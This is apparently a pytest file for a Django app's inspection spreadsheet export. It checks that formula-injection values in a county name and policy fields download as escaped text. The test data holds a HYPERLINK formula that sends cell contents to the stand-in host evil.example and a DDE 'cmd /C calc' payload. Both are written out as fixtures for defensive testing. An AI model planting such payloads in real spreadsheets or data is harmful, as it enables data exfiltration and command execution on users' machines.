"""The inspection .xlsx download: names and texts from loaded files cannot become formulas."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook

from tests.assistance.test_inspection import ON, case_of, no_lake, world  # noqa: F401
from tests.factories import OWN_COUNTY
from wenjiuye.core.models import PolicyParameter
from wenjiuye.core.reference_regions import regions_load
from wenjiuye.core.roles import Role

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("world")]

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"宝丰县")'


def test_a_county_name_and_policy_texts_with_formulas_download_as_text(client, users, tmp_path):
    regions = tmp_path / "regions.csv"  # as `wenjiuye regions load` reads a renamed county
    regions.write_text(
        f'code,name,level,parent_code\n{OWN_COUNTY},"{EVIL_NAME.replace(chr(34), chr(34) * 2)}",county,410400\n',
        encoding="utf-8",
    )
    regions_load(path=regions)
    PolicyParameter.objects.filter(key="inspection.ledger.min_complete_ratio").update(
        source="@SUM(1+1)*cmd|' /C calc'!A0", unit="-1+1"
    )
    client.force_login(users[Role.CITY_OFFICE])
    response = client.get("/assistance/inspection/export.xlsx", {"on": ON.isoformat()})
    assert response.status_code == 200
    wb = load_workbook(BytesIO(response.content))
    ws = wb["检查评估"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[-1].value == OWN_COUNTY)
    name = row[0]
    assert (name.data_type, name.value) == ("s", "'" + EVIL_NAME)
    open_cases, ratio = row[1], row[2]
    assert (open_cases.data_type, open_cases.value) == ("n", 4)  # numbers stay numbers
    assert (ratio.data_type, ratio.value, ratio.number_format) == ("n", 0.5, "0.0%")
    cells = [c for sheet in wb for r in sheet.iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f"]
    header = [c.value for c in wb["政策参数"][1]]
    param = next(
        dict(zip(header, r, strict=True))
        for r in wb["政策参数"].iter_rows(min_row=2, values_only=True)
        if r[0] == "台账信息完整率下限"
    )
    assert param["来源"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and param["单位"] == "'-1+1"
    assert isinstance(param["取值"], float)
